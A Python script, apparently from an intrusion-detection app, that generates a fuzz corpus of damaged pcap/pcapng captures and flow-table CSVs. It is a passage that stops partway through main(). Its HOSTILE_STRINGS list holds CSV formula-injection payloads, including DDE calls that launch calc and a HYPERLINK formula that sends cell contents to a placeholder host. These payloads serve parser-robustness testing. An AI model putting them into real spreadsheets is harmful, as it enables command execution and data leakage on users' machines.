"""Write a corpus of broken and hostile inputs for the fuzz test and ``bench/fuzz.py`` (issue 10).

Seeded and deterministic: the same ``--seed`` (and the same ``../shared/data``) gives the same
files. Sources:

- generated captures (``make_capture``: the known conversations as pcap and pcapng, a small
  mixed capture; ``make_demo_capture``: the demo, with TLS SNI and HTTP hosts);
- generated flow tables: synthetic rows in the CIC-IDS2017, UNSW-NB15, ToN-IoT and NSL-KDD
  layouts, and the app's own CSV export of a generated capture;
- when ``../shared/data`` exists: a few small real captures, the first rows of each real
  dataset table, and every file of ``pcaps/malformed`` (copied into the corpus unchanged;
  the corpus folder must be outside the repository, the data is never copied into it).

Capture mutations (record-aware: the container is parsed so cuts land where they should):
cuts at a record boundary and inside a record header or body, flipped file-header bytes, wrong
magic numbers, huge/zero snapshot lengths, wrong version, odd link types, zero-length and
oversized packets, captured length above the original length, negative (pre-1970), backwards
and shuffled timestamps, sub-second fields out of range, random byte flips in packet bodies,
pcapng block-length and byte-order damage, two files concatenated, empty and header-only files.

Table mutations: formula cells (``=cmd|' /C calc'!A0`` ...), very long lines and cells, binary
junk and NUL bytes, UTF-16 (LE/BE, with and without BOM), Latin-1 and CP1252, invalid UTF-8,
duplicated header rows and duplicated column names, missing label columns, missing feature
columns, shuffled columns, a cut in the middle of a row or a quoted cell, unbalanced quotes,
other separators, CR-only line endings, Inf/NaN/huge numbers, truncated and corrupt gzip.

Usage::

    python scripts/make_fuzz_corpus.py --out /tmp/ids-fuzz [--seed 0] [--no-shared]

It prints one line per file kind and writes ``manifest.json`` (name, kind, source, mutation)
beside the files.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import random
import shutil
import struct
import sys
import tempfile
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

REPO = Path(__file__).resolve().parent.parent
SHARED = REPO.parent / "shared" / "data"

#: Small real captures mutated when ../shared/data exists (a mix of link layers and containers).
SHARED_CAPTURES = (
    "pcaps/attack/synscan.pcap",
    "pcaps/attack/dns_axfr.pcapng",
    "pcaps/benign/http_espn.pcapng",
    "pcaps/benign/http_ipv6.pcap",
)
#: Real tables: (path, rows kept from the top).
SHARED_TABLES = (
    ("cic_ids2017/cic_ids2017_multiclass.csv.gz", 300),
    ("unsw_nb15/UNSW_NB15_training-set.dev80.csv.gz", 300),
    ("nsl_kdd/KDDTrain+_20Percent.txt", 300),
    ("nsl_kdd/KDDTrain+_20Percent.arff", 0),  # 0: whole header + 300 data lines
)

HOSTILE_STRINGS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
    "\t=1+1",
    "<b>x</b>",
    "<font size=80>big</font>",
    "&amp;&lt;&#0;",
    "a\x00b\x01c\x1bd\x7f",
    "line\nbreak\r\nhere",
    "\"quoted\",\"cells\"",
    "\u202etxt.exe",
    "A" * 5000,
)


@dataclass
class Item:
    name: str
    kind: str  # "capture" or "table"
    source: str
    mutation: str


# --------------------------------------------------------------------------------------------
# Capture containers
# --------------------------------------------------------------------------------------------

_PCAP_MAGICS = {
    b"\xd4\xc3\xb2\xa1": "<",
    b"\xa1\xb2\xc3\xd4": ">",
    b"\x4d\x3c\xb2\xa1": "<",
    b"\xa1\xb2\x3c\x4d": ">",
}


@dataclass
class Container:
    """A parsed capture: the file header and each record as (header bytes, body bytes)."""

    fmt: str  # "pcap" or "pcapng"
    endian: str
    header: bytes  # pcap: 24-byte file header; pcapng: bytes before the first packet block
    records: list[bytes]  # complete records (pcap: 16-byte header + body; pcapng: whole block)

    def offsets(self) -> list[int]:
        out, off = [], len(self.header)
        for rec in self.records:
            out.append(off)
            off += len(rec)
        return out

    def build(self, records: list[bytes] | None = None, header: bytes | None = None) -> bytes:
        return (self.header if header is None else header) + b"".join(self.records if records is None else records)


def parse_container(data: bytes) -> Container | None:
    """Split a well-formed pcap/pcapng file into header and records (``None``: not parseable)."""
    magic = data[:4]
    if magic in _PCAP_MAGICS and len(data) >= 24:
        e = _PCAP_MAGICS[magic]
        recs, off = [], 24
        while off + 16 <= len(data):
            incl = struct.unpack_from(e + "I", data, off + 8)[0]
            if off + 16 + incl > len(data):
                break
            recs.append(data[off : off + 16 + incl])
            off += 16 + incl
        return Container("pcap", e, data[:24], recs)
    if magic == b"\x0a\x0d\x0d\x0a" and len(data) >= 28:
        e = "<" if data[8:12] == b"\x4d\x3c\x2b\x1a" else ">"
        off, head_end, recs = 0, None, []
        while off + 12 <= len(data):
            btype, blen = struct.unpack_from(e + "II", data, off)
            if blen < 12 or off + blen > len(data):
                break
            if btype in (2, 3, 6):
                if head_end is None:
                    head_end = off
                recs.append(data[off : off + blen])
            elif head_end is not None:
                recs.append(data[off : off + blen])
            off += blen
        if head_end is None:
            head_end = off
        return Container("pcapng", e, data[:head_end], recs)
    return None


def _pcap_rec(c: Container, rec: bytes) -> tuple[int, int, int, int, bytes]:
    ts_s, ts_f, incl, orig = struct.unpack_from(c.endian + "IIII", rec, 0)
    return ts_s, ts_f, incl, orig, rec[16:]


def _pcap_pack(c: Container, ts_s: int, ts_f: int, incl: int, orig: int, body: bytes) -> bytes:
    return struct.pack(c.endian + "IIII", ts_s & 0xFFFFFFFF, ts_f & 0xFFFFFFFF, incl & 0xFFFFFFFF,
                       orig & 0xFFFFFFFF) + body  # fmt: skip


def _epb_fields(c: Container, rec: bytes) -> tuple[int, int, int, int, int, int, bytes] | None:
    btype, blen = struct.unpack_from(c.endian + "II", rec, 0)
    if btype != 6 or blen < 32:
        return None
    iface, hi, lo, incl, orig = struct.unpack_from(c.endian + "IIIII", rec, 8)
    return btype, iface, hi, lo, incl, orig, rec[28 : 28 + incl]


def _epb_pack(c: Container, iface: int, ts: int, incl: int, orig: int, body: bytes) -> bytes:
    pad = (-len(body)) % 4
    total = 32 + len(body) + pad
    return (struct.pack(c.endian + "IIIIIII", 6, total, iface, (ts >> 32) & 0xFFFFFFFF, ts & 0xFFFFFFFF,
                        incl & 0xFFFFFFFF, orig & 0xFFFFFFFF)
            + body + b"\0" * pad + struct.pack(c.endian + "I", total))  # fmt: skip


def _retime(c: Container, rec: bytes, fn: Callable[[int, int], tuple[int, int]]) -> bytes:
    """Rewrite one record's timestamp with ``fn(seconds_or_hi, fraction_or_lo)``."""
    if c.fmt == "pcap":
        ts_s, ts_f, incl, orig, body = _pcap_rec(c, rec)
        s, f = fn(ts_s, ts_f)
        return _pcap_pack(c, s, f, incl, orig, body)
    f = _epb_fields(c, rec)
    if f is None:
        return rec
    _, iface, hi, lo, incl, orig, _body = f
    nhi, nlo = fn(hi, lo)
    out = bytearray(rec)
    struct.pack_into(c.endian + "II", out, 12, nhi & 0xFFFFFFFF, nlo & 0xFFFFFFFF)
    return bytes(out)


def _relen(c: Container, rec: bytes, body: bytes, incl: int | None = None, orig: int | None = None) -> bytes:
    """The record with a new body; ``incl``/``orig`` override the declared lengths."""
    if c.fmt == "pcap":
        ts_s, ts_f, _, old_orig, _ = _pcap_rec(c, rec)
        return _pcap_pack(c, ts_s, ts_f, len(body) if incl is None else incl,
                          old_orig if orig is None else orig, body)  # fmt: skip
    f = _epb_fields(c, rec)
    if f is None:
        return rec
    _, iface, hi, lo, _, old_orig, _ = f
    return _epb_pack(c, iface, (hi << 32) | lo, len(body) if incl is None else incl,
                     old_orig if orig is None else orig, body)  # fmt: skip


def capture_mutations(data: bytes, rng: random.Random) -> list[tuple[str, bytes]]:
    """Every capture mutation of one source file: (mutation name, bytes)."""
    c = parse_container(data)
    out: list[tuple[str, bytes]] = []
    if c is None or not c.records:
        return [("unchanged", data)]
    n = len(c.records)
    offs = c.offsets()
    pick = lambda: rng.randrange(n)  # noqa: E731

    # cuts
    out.append(("cut-at-boundary", data[: offs[min(n - 1, max(1, n // 2))]]))
    out.append(("cut-after-first-record", data[: offs[1] if n > 1 else len(data)]))
    i = pick()
    rec_hdr = 16 if c.fmt == "pcap" else 28
    out.append(("cut-in-record-header", data[: offs[i] + rng.randrange(1, rec_hdr)]))
    i = pick()
    out.append(("cut-in-record-body", data[: offs[i] + rec_hdr + max(1, (len(c.records[i]) - rec_hdr) // 2)]))
    out.append(("cut-in-file-header", data[: rng.randrange(1, len(c.header))]))
    out.append(("header-only", c.header))
    out.append(("cut-last-byte", data[:-1]))

    # file header damage
    for k in range(3):
        b = bytearray(data)
        pos = rng.randrange(4, min(len(c.header), 64))
        b[pos] ^= 1 << rng.randrange(8)
        out.append((f"flip-header-bit-{k}", bytes(b)))
    b = bytearray(data)
    for pos in rng.sample(range(4, min(len(c.header), 64)), 4):
        b[pos] = rng.randrange(256)
    out.append(("scramble-header", bytes(b)))
    for k, magic in enumerate((b"\xa1\xb2\xc3\xd5", b"\x0a\x0d\x0d\x0b", b"PK\x03\x04", rng.randbytes(4))):
        out.append((f"wrong-magic-{k}", magic + data[4:]))
    if c.fmt == "pcap":
        e = c.endian
        for name, snap in (("huge-snaplen", 0xFFFFFFFF), ("big-snaplen", 0x10000000), ("zero-snaplen", 0),
                           ("snaplen-1", 1)):  # fmt: skip
            h = bytearray(c.header)
            struct.pack_into(e + "I", h, 16, snap)
            out.append((name, c.build(header=bytes(h))))
        for name, lt in (("linktype-sll2", 276), ("linktype-usb", 189), ("linktype-huge", 0xFFFF),
                         ("linktype-raw-on-ethernet", 101), ("linktype-fcs-bits", 0x10000001)):  # fmt: skip
            h = bytearray(c.header)
            struct.pack_into(e + "I", h, 20, lt)
            out.append((name, c.build(header=bytes(h))))
        h = bytearray(c.header)
        struct.pack_into(e + "H", h, 4, 3)
        out.append(("version-3", c.build(header=bytes(h))))
        h = bytearray(c.header)
        struct.pack_into(e + "H", h, 6, 0xFFFF)
        out.append(("minor-version-ffff", c.build(header=bytes(h))))
    else:
        b = bytearray(data)
        b[8:12] = b"\x00\x00\x00\x00"
        out.append(("pcapng-bad-bom", bytes(b)))
        b = bytearray(data)
        struct.pack_into(c.endian + "I", b, 4, 0xFFFFFFF0)
        out.append(("pcapng-shb-huge-length", bytes(b)))
        # an IDB snaplen of 0xffffffff and an absurd timestamp resolution
        idb_at = struct.unpack_from(c.endian + "I", c.header, 4)[0]  # the IDB follows the SHB
        if idb_at + 20 <= len(c.header) and struct.unpack_from(c.endian + "I", c.header, idb_at)[0] == 1:
            h = bytearray(c.header)
            struct.pack_into(c.endian + "I", h, idb_at + 12, 0xFFFFFFFF)
            out.append(("pcapng-idb-huge-snaplen", c.build(header=bytes(h))))
            h = bytearray(c.header)
            struct.pack_into(c.endian + "H", h, idb_at + 8, 0xFFFF)
            out.append(("pcapng-idb-linktype-ffff", c.build(header=bytes(h))))
        recs = list(c.records)
        i = pick()
        bad = bytearray(recs[i])
        struct.pack_into(c.endian + "I", bad, len(bad) - 4, len(bad) + 4)
        recs[i] = bytes(bad)
        out.append(("pcapng-trailer-mismatch", c.build(recs)))
        recs = list(c.records)
        i = pick()
        recs.insert(i, struct.pack(c.endian + "II", 0x0BADF00D, 16) + b"\0\0\0\0" + struct.pack(c.endian + "I", 16))
        out.append(("pcapng-unknown-block", c.build(recs)))
        recs = list(c.records)
        recs.insert(pick(), struct.pack(c.endian + "II", 6, 32) + b"\0" * 20 + struct.pack(c.endian + "I", 32))
        out.append(("pcapng-epb-interface-unknown", c.build(recs)))
        recs = list(c.records)
        i = pick()
        bad = bytearray(recs[i])
        if len(bad) >= 32:
            struct.pack_into(c.endian + "I", bad, 8, 7)  # interface id never described
            recs[i] = bytes(bad)
            out.append(("pcapng-epb-bad-interface", c.build(recs)))

    # record damage
    recs = list(c.records)
    i = pick()
    recs[i] = _relen(c, recs[i], b"", incl=0, orig=0)
    out.append(("zero-length-packet", c.build(recs)))
    recs = list(c.records)
    for i in rng.sample(range(n), min(n, 5)):
        recs[i] = _relen(c, recs[i], b"", incl=0, orig=rng.randrange(1, 1500))
    out.append(("zero-captured-bytes", c.build(recs)))
    recs = list(c.records)
    i = pick()
    body = (recs[i][16:] if c.fmt == "pcap" else (_epb_fields(c, recs[i]) or [b""] * 7)[6]) or b"\0" * 60
    big = (body * (200_000 // max(1, len(body)) + 1))[:200_000]
    recs[i] = _relen(c, recs[i], big, orig=200_000)
    out.append(("oversized-packet-200k", c.build(recs)))
    recs = list(c.records)
    i = pick()
    jumbo = (body * (70_000 // max(1, len(body)) + 1))[:70_000]
    recs[i] = _relen(c, recs[i], jumbo, orig=70_000)
    out.append(("oversized-packet-70k", c.build(recs)))
    recs = list(c.records)
    i = pick()
    hdr = bytearray(recs[i])
    if c.fmt == "pcap":
        struct.pack_into(c.endian + "I", hdr, 8, 0x7FFFFFFF)
    else:
        struct.pack_into(c.endian + "I", hdr, 20, 0x7FFFFFFF)
    recs[i] = bytes(hdr)
    out.append(("record-claims-2gb", c.build(recs)))
    recs = list(c.records)
    for i in rng.sample(range(n), min(n, 5)):
        rec = recs[i]
        b_ = rec[16:] if c.fmt == "pcap" else (_epb_fields(c, rec) or [b""] * 7)[6]
        recs[i] = _relen(c, rec, b_, orig=max(0, len(b_) // 3))
    out.append(("orig-len-below-captured", c.build(recs)))
    recs = list(c.records)
    for i in rng.sample(range(n), min(n, 8)):
        rec = recs[i]
        b_ = rec[16:] if c.fmt == "pcap" else (_epb_fields(c, rec) or [b""] * 7)[6]
        cut = b_[: rng.randrange(0, max(1, min(len(b_), 40)))]
        recs[i] = _relen(c, rec, cut, orig=len(b_))
    out.append(("snap-truncated-headers", c.build(recs)))

    # timestamps
    if c.fmt == "pcap":
        out.append(("negative-timestamps", c.build([_retime(c, r, lambda s, f: (0x80000000 + s % 1000, f))
                                                     for r in c.records])))  # fmt: skip
        out.append(("timestamps-all-zero", c.build([_retime(c, r, lambda s, f: (0, 0)) for r in c.records])))
        out.append(("timestamps-max", c.build([_retime(c, r, lambda s, f: (0xFFFFFFFF, 999_999)) for r in c.records])))
        out.append(("fraction-out-of-range", c.build([_retime(c, r, lambda s, f: (s, 0xFFFFFFF0)) for r in c.records])))
        base = _pcap_rec(c, c.records[0])[0]
        out.append(("timestamps-run-backwards",
                    c.build([_retime(c, r, lambda s, f, k=k: (base + n - k, f)) for k, r in enumerate(c.records)])))
    else:
        out.append(("timestamps-all-zero", c.build([_retime(c, r, lambda h, lo: (0, 0)) for r in c.records])))
        out.append(("timestamps-max", c.build([_retime(c, r, lambda h, lo: (0xFFFFFFFF, 0xFFFFFFFF)) for r in c.records])))
        out.append(("timestamps-run-backwards",
                    c.build([_retime(c, r, lambda h, lo, k=k: (h, (lo - k * 1_000_000) & 0xFFFFFFFF))
                             for k, r in enumerate(c.records)])))  # fmt: skip
    recs = list(c.records)
    rng.shuffle(recs)
    out.append(("records-shuffled", c.build(recs)))
    recs = list(c.records)
    i = pick()
    if n > 2:
        recs[i] = _retime(c, recs[i], lambda s, f: (max(0, s - 86_400 * 365), f))
        out.append(("one-timestamp-a-year-back", c.build(recs)))

    # packet bodies
    for k in range(3):
        b = bytearray(data)
        for _ in range(20 + k * 60):
            pos = rng.randrange(len(c.header), len(b))
            b[pos] = rng.randrange(256)
        out.append((f"random-byte-flips-{k}", bytes(b)))
    b = bytearray(data)
    start = offs[n // 2]
    b[start : start + 64] = rng.randbytes(64)
    out.append(("garbage-over-a-record-header", bytes(b)))
    out.append(("garbage-appended", data + rng.randbytes(5000)))
    out.append(("zeros-appended", data + b"\0" * 4096))
    out.append(("file-concatenated-twice", data + data))
    out.append(("records-duplicated", c.build([r for r in c.records for _ in (0, 1)])))
    return out


def generic_binary(rng: random.Random) -> list[tuple[str, str, bytes]]:
    """Inputs with no source: (name, extension, bytes)."""
    return [
        ("empty", "pcap", b""),
        ("empty", "csv", b""),
        ("one-byte", "pcap", b"\xd4"),
        ("magic-only", "pcap", b"\xd4\xc3\xb2\xa1"),
        ("pcapng-magic-only", "pcapng", b"\x0a\x0d\x0d\x0a"),
        ("random-bytes", "pcap", rng.randbytes(4096)),
        ("random-bytes", "pcapng", rng.randbytes(70_000)),
        ("random-bytes", "csv", rng.randbytes(4096)),
        ("zeros", "pcap", b"\0" * 10_000),
        ("pdf-named-pcap", "pcap", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
        ("zip-named-csv", "csv", b"PK\x03\x04" + rng.randbytes(400)),
        ("gzip-of-random", "csv.gz", gzip.compress(rng.randbytes(3000), mtime=0)),
        ("gzip-header-only", "csv.gz", gzip.compress(b"", mtime=0)[:10]),
        ("parquet-magic-junk", "parquet", b"PAR1" + rng.randbytes(500) + b"PAR1"),
        ("parquet-magic-only", "parquet", b"PAR1"),
        ("only-newlines", "csv", b"\n\n\n\r\n"),
        ("only-bom", "csv", b"\xef\xbb\xbf"),
        ("utf16-bom-only", "csv", b"\xff\xfe"),
    ]


# --------------------------------------------------------------------------------------------
# Tables
# --------------------------------------------------------------------------------------------


def synthetic_table(fmt: str, rows: int, rng: random.Random) -> str:
    """A CSV (text) in one of the app's table layouts, with made-up but plausible values."""
    from ids_desktop.core.ingest.tables import TABLE_FORMATS

    spec = TABLE_FORMATS[fmt]
    labels = {
        "cic-ids2017": {"Label": ("BENIGN", "PortScan", "DDoS", "DoS Hulk")},
        "unsw-nb15": {"attack_cat": ("Normal", "Exploits", "Generic", "Reconnaissance"), "label": ("0", "1")},
        "ton-iot": {"label": ("0", "1"), "type": ("normal", "scanning", "ddos", "password")},
        "nsl-kdd": {},
    }[fmt]
    text_values = {
        "proto": ("tcp", "udp", "icmp"), "service": ("-", "http", "dns", "ftp"), "state": ("FIN", "INT", "CON"),
        "protocol_type": ("tcp", "udp", "icmp"), "flag": ("SF", "S0", "REJ"),
        "conn_state": ("SF", "S0", "REJ"), "dns_query": ("example.com", "-"), "http_user_agent": ("-", "curl/8"),
        "ssl_subject": ("-",), "ssl_issuer": ("-",), "http_uri": ("-", "/index.html"),
        "src_ip": ("10.0.0.1", "192.168.1.5"), "dst_ip": ("10.0.0.2", "203.0.113.9"),
    }  # fmt: skip
    cat = set(spec.categorical) | set(text_values)
    lines = []
    if spec.header:
        lines.append(",".join((" " + c) if fmt == "cic-ids2017" and i else c for i, c in enumerate(spec.columns)))
    for r in range(rows):
        cells = []
        for c in spec.columns:
            if c in labels:
                cells.append(rng.choice(labels[c]))
            elif c in cat:
                cells.append(rng.choice(text_values.get(c, ("a", "b", "-"))))
            elif fmt == "nsl-kdd" and c == spec.columns[-2]:
                cells.append(rng.choice(("normal", "neptune", "smurf", "satan")))
            else:
                cells.append(str(rng.choice((0, 1, 2, 80, 443, rng.randrange(100_000), round(rng.random() * 1000, 3)))))
        lines.append(",".join(cells))
    return "\n".join(lines) + "\n"


def _split_csv(text: str) -> tuple[list[str], list[str]]:
    lines = text.splitlines()
    return lines[:1], lines[1:]


def table_mutations(text: str, rng: random.Random, *, has_header: bool = True) -> list[tuple[str, str, bytes]]:
    """Every table mutation of one CSV text: (mutation, extension, bytes)."""
    import csv

    out: list[tuple[str, str, bytes]] = []
    lines = text.splitlines()
    head, body = (lines[:1], lines[1:]) if has_header else ([], lines)
    if not body:
        return [("unchanged", "csv", text.encode())]
    sep = ","
    u8 = lambda t: t.encode("utf-8", errors="surrogateescape")  # noqa: E731

    def rows() -> list[list[str]]:
        return [next(csv.reader([line])) for line in body]

    def join(rs: list[list[str]]) -> list[str]:
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows(rs)
        return buf.getvalue().splitlines()

    def doc(ls: list[str]) -> str:
        return "\n".join(ls) + "\n"

    # hostile cells in every column that is not a number, and in random numeric cells
    rs = rows()
    ncol = max(len(r) for r in rs)
    groups = {"formulas": HOSTILE_STRINGS[:6], "markup": HOSTILE_STRINGS[6:9], "control-and-long": HOSTILE_STRINGS[9:]}
    for group, strings in groups.items():
        rs2 = [list(r) for r in rs]
        for k, r in enumerate(rs2[:: max(1, len(rs2) // 20)]):
            j = rng.randrange(len(r))
            r[j] = strings[k % len(strings)]
        out.append((f"hostile-cells-{group}", "csv", u8(doc(head + join(rs2)))))
    rs2 = [list(r) for r in rs]
    for r in rs2:
        for j in range(len(r)):
            if not _numberish(r[j]):
                r[j] = rng.choice(HOSTILE_STRINGS[:6])
    out.append(("formula-in-every-text-cell", "csv", u8(doc(head + join(rs2)))))

    # sizes
    out.append(("one-cell-2mb", "csv", u8(doc(head + ["x" * 2_000_000 + body[0]] + body[1:]))))
    out.append(("extra-2mb-field", "csv", u8(doc(head + [body[0].replace(sep, sep + "x" * 2_000_000 + sep, 1)] + body[1:]))))
    out.append(("line-100k-fields", "csv", u8(doc(head + [sep.join(["1"] * 100_000)] + body))))
    out.append(("header-100k-columns", "csv", u8(doc([sep.join(f"c{i}" for i in range(100_000))] + body[:3]))))
    out.append(("rows-repeated-20x", "csv", u8(doc(head + body * 20))))

    # junk
    junk = rng.randbytes(300)
    b = u8(doc(head + body))
    mid = len(b) // 2
    out.append(("binary-junk-middle", "csv", b[:mid] + junk + b[mid:]))
    out.append(("nul-bytes", "csv", b.replace(b",", b",\x00", 5)))
    out.append(("binary-junk-appended", "csv", b + junk))
    out.append(("invalid-utf8", "csv", b[:mid] + b"\xff\xfe\xc3\x28\xa0\xa1" + b[mid:]))

    # encodings
    plain = doc(head + body)
    accented = plain.replace("a", "\u00e4", 3).replace("e", "\u00e9", 3)
    out.append(("utf16-le-bom", "csv", b"\xff\xfe" + plain.encode("utf-16-le")))
    out.append(("utf16-be-bom", "csv", b"\xfe\xff" + plain.encode("utf-16-be")))
    out.append(("utf16-le-no-bom", "csv", plain.encode("utf-16-le")))
    out.append(("utf32", "csv", plain.encode("utf-32")))
    out.append(("latin1", "csv", accented.encode("latin-1", errors="replace")))
    out.append(("cp1252", "csv", (accented + "\u20ac\n").encode("cp1252", errors="replace")))
    out.append(("utf8-bom", "csv", b"\xef\xbb\xbf" + u8(plain)))

    # structure
    if head:
        out.append(("header-repeated-mid-file", "csv", u8(doc(head + body[: len(body) // 2] + head + body[len(body) // 2 :]))))
        names = next(csv.reader(head))
        dup = list(names)
        if len(dup) > 2:
            dup[1] = dup[0]
            dup[-1] = dup[-2]
        out.append(("duplicate-column-names", "csv", u8(doc(join([dup]) + body))))
        label_cols = [i for i, c in enumerate(names) if c.strip().lower() in ("label", "attack_cat", "type", "class")]
        if label_cols:
            keep = [i for i in range(len(names)) if i not in label_cols]
            out.append(("no-label-columns", "csv", u8(doc(join([[names[i] for i in keep]] + [[r[i] for i in keep if i < len(r)] for r in rs])))))
        keep = list(range(len(names)))
        drop = rng.sample(keep, max(1, len(keep) // 5))
        keep = [i for i in keep if i not in drop]
        out.append(("missing-feature-columns", "csv", u8(doc(join([[names[i] for i in keep]] + [[r[i] for i in keep if i < len(r)] for r in rs])))))
        perm = list(range(len(names)))
        rng.shuffle(perm)
        out.append(("columns-shuffled", "csv", u8(doc(join([[names[i] for i in perm]] + [[r[i] if i < len(r) else "" for i in perm] for r in rs])))))
        out.append(("extra-column", "csv", u8(doc(join([names + ["extra"]] + [r + ["x"] for r in rs])))))
        out.append(("header-only", "csv", u8(doc(head))))
        out.append(("header-with-spaces-and-case", "csv", u8(doc(join([[f"  {c.upper()} " for c in names]]) + body))))
    out.append(("no-header", "csv", u8(doc(body))))
    out.append(("short-rows", "csv", u8(doc(head + [line.split(sep)[0] for line in body[:5]] + body[5:]))))
    out.append(("long-rows", "csv", u8(doc(head + [line + ",1,2,3" for line in body]))))
    out.append(("cut-mid-row", "csv", u8(doc(head + body))[: -max(2, len(body[-1]) // 2)]))
    out.append(("unbalanced-quote", "csv", u8(doc(head + ['"' + body[0]] + body[1:]))))
    out.append(("cut-inside-quoted-cell", "csv", u8(doc(head + body[:-1]) + '"open quoted cell, never closed')))
    out.append(("semicolon-separated", "csv", u8(doc([ln.replace(",", ";") for ln in head + body]))))
    out.append(("tab-separated", "csv", u8(doc([ln.replace(",", "\t") for ln in head + body]))))
    out.append(("cr-line-endings", "csv", u8("\r".join(head + body) + "\r")))
    out.append(("crlf-line-endings", "csv", u8("\r\n".join(head + body) + "\r\n")))
    out.append(("blank-lines", "csv", u8(doc(head + [""] + [x for ln in body for x in (ln, "")]))))
    rs2 = [list(r) for r in rs]
    specials = ("inf", "-inf", "Infinity", "nan", "NaN", "1e999", "-1e999", "1e308", "0x1F", "1,000",
                "99999999999999999999999999", "-0", "", "  ", "None", "null")  # fmt: skip
    for r in rs2:
        for j in range(len(r)):
            if _numberish(r[j]) and rng.random() < 0.3:
                r[j] = rng.choice(specials)
    out.append(("odd-numbers", "csv", u8(doc(head + join(rs2)))))

    # compression
    gz = gzip.compress(u8(plain), mtime=0)
    out.append(("gzip", "csv.gz", gz))
    out.append(("gzip-truncated", "csv.gz", gz[: len(gz) // 2]))
    bad = bytearray(gz)
    for _ in range(10):
        bad[rng.randrange(10, len(bad) - 8)] ^= 0xFF
    out.append(("gzip-corrupt", "csv.gz", bytes(bad)))
    out.append(("gzip-of-utf16", "csv.gz", gzip.compress(b"\xff\xfe" + plain.encode("utf-16-le"), mtime=0)))
    return out


def _numberish(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --------------------------------------------------------------------------------------------
# Corpus
# --------------------------------------------------------------------------------------------


def _generated_captures(tmp: Path) -> dict[str, Path]:
    import make_capture as mc
    import make_demo_capture as md

    out: dict[str, Path] = {}
    for fmt in ("pcap", "pcapng"):
        p = tmp / f"known.{fmt}"
        mc.write_known_capture(p, fmt)
        out[f"gen-known-{fmt}"] = p
    p = tmp / "mixed.pcap"
    mc.write_mixed_capture(p, 0.25, seed=3)
    out["gen-mixed-pcap"] = p
    p = tmp / "raw.pcap"
    mc.write_known_capture(p, "pcap", linktype=mc.LINKTYPE_RAW)
    out["gen-known-rawip"] = p
    p = tmp / "demo.pcap"
    md.write_demo(p, seed=7, minutes=1)
    out["gen-demo"] = p
    return out


def _export_csv(capture: Path, tmp: Path) -> str:
    """The app's own CSV export of a generated capture, as text."""
    from ids_desktop.core.ingest import ingest, write_flows

    out = tmp / "export.csv"
    write_flows(ingest(capture), out)
    return out.read_text(encoding="utf-8")


def _shared_table_text(path: Path, rows: int) -> str:
    opener = gzip.open if path.suffix == ".gz" else open
    with opener(path, "rt", encoding="utf-8", errors="replace", newline="") as fh:  # type: ignore[operator]
        if rows:
            return "".join(line for _, line in zip(range(rows + 1), fh))
        lines: list[str] = []
        data_lines = 0
        in_data = False
        for line in fh:
            lines.append(line)
            if in_data and line.strip():
                data_lines += 1
                if data_lines >= 300:
                    break
            if line.strip().lower() == "@data":
                in_data = True
        return "".join(lines)


def build_corpus(out: Path, *, seed: int = 0, shared: bool = True, only: set[str] | None = None) -> list[Item]:
    """Write the whole corpus into ``out`` (created; existing files are replaced).

    ``only``: write just the files with these names (the manifest lists only them too).
    """
    out.mkdir(parents=True, exist_ok=True)
    items: list[Item] = []

    def put(name: str, kind: str, source: str, mutation: str, data: bytes) -> None:
        if only is not None and name not in only:
            return
        (out / name).write_bytes(data)
        items.append(Item(name, kind, source, mutation))

    use_shared = shared and SHARED.is_dir()
    with tempfile.TemporaryDirectory(prefix="ids-fuzz-src-") as tmp_name:
        tmp = Path(tmp_name)
        captures = _generated_captures(tmp)
        if use_shared:
            for rel in SHARED_CAPTURES:
                p = SHARED / rel
                if p.is_file():
                    captures["real-" + p.stem] = p
        for idx, (src, path) in enumerate(sorted(captures.items())):
            rng = random.Random(f"{seed}:{src}")
            ext = "pcapng" if path.read_bytes()[:4] == b"\x0a\x0d\x0d\x0a" else "pcap"
            for mutation, data in capture_mutations(path.read_bytes(), rng):
                put(f"{src}--{mutation}.{ext}", "capture", src, mutation, data)

        tables: dict[str, tuple[str, bool]] = {}
        for fmt in ("cic-ids2017", "unsw-nb15", "ton-iot", "nsl-kdd"):
            rng = random.Random(f"{seed}:table:{fmt}")
            from ids_desktop.core.ingest.tables import TABLE_FORMATS

            tables[f"gen-{fmt}"] = (synthetic_table(fmt, 60, rng), TABLE_FORMATS[fmt].header)
        tables["gen-export"] = (_export_csv(captures["gen-demo"], tmp), True)
        if use_shared:
            for rel, rows in SHARED_TABLES:
                p = SHARED / rel
                if p.is_file():
                    header = not rel.endswith(".txt")
                    tables["real-" + p.name.split(".")[0]] = (_shared_table_text(p, rows), header)
        for src, (text, header) in sorted(tables.items()):
            rng = random.Random(f"{seed}:{src}")
            if src.endswith("Percent") and "@" in text[:2000]:  # ARFF: only text-level mutations
                muts = [m for m in table_mutations(text, rng, has_header=False)
                        if not m[0].startswith(("hostile-cell", "formula", "no-header"))]  # fmt: skip
                ext_base = "arff"
            else:
                muts = table_mutations(text, rng, has_header=header)
                ext_base = "csv" if header else "txt"
            for mutation, ext, data in muts:
                ext = ext.replace("csv", ext_base)
                put(f"{src}--{mutation}.{ext}", "table", src, mutation, data)

    rng = random.Random(f"{seed}:generic")
    for name, ext, data in generic_binary(rng):
        put(f"generic--{name}.{ext}", "capture" if "pcap" in ext else "table", "generic", name, data)

    if use_shared:
        malformed = SHARED / "pcaps" / "malformed"
        for p in sorted(malformed.iterdir()) if malformed.is_dir() else []:
            name = f"malformed--{p.name}"
            if only is not None and name not in only:
                continue
            shutil.copyfile(p, out / name)
            items.append(Item(name, "capture", f"shared:{p.name}", "as published"))

    (out / "manifest.json").write_text(json.dumps([asdict(i) for i in items], indent=1))
    return items


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--out", type=Path, required=True, help="corpus folder (outside the repository)")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--no-shared", action="store_true", help="ignore ../shared/data even when present")
    args = parser.parse_args(argv)
    out = args.out.resolve()
    if out == REPO or REPO in out.parents:
